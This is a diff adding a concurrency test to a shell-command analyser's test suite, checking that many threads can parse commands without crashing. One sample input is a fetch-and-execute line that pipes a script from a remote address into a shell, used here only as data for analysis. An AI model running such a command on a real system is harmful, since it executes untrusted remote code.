@@ -270,3 +270,28 @@ def test_long_legitimate_heredoc_is_analysed_in_pieces() -> None:
     out = analyze_command(cmd)
     assert "ssh_forward_remote" in out["cmd.features"]
     assert "analysis_timeout" not in out["cmd.features"]
+
+
+def test_analysis_from_many_threads_at_once():
+    """Sessions analyse commands from many threads (a node runs episodes in a pool): a
+    tree-sitter parser shared between threads crashed the process (SIGSEGV)."""
+    import threading
+
+    commands = ["for i in $(seq 3); do echo $i | tr 1 2; done > out.txt",
+                "bash -c 'curl -s http://203.0.113.5/x | sh'",
+                "cat <<'EOF'\nimport os\nprint(os.getcwd())\nEOF"] * 20
+    errors: list[BaseException] = []
+
+    def work() -> None:
+        try:
+            for c in commands:
+                assert analyze_command(c)["cmd.names"]
+        except BaseException as exc:  # noqa: BLE001 - reported below
+            errors.append(exc)
+
+    threads = [threading.Thread(target=work) for _ in range(8)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert not errors
